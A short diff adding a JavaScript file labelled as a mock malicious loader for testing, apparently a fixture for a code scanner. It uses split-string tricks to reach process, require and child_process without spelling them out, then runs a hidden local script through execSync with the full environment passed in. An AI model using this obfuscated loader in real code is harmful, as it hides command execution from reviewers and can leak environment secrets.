@@ -0,0 +1,9 @@
+// MOCK malicious loader - FOR TESTING ONLY
+// Reaches the process object and child process module without spelling them out
+
+const g = global['pro' + 'cess'];
+const env = g["en" + "v"];
+const load = g.mainModule[['req', 'uire'].join('')];
+const cp = load(['child', 'process'].join('_'));
+
+cp[`exec` + `Sync`]('node .cache/run.js ', { env });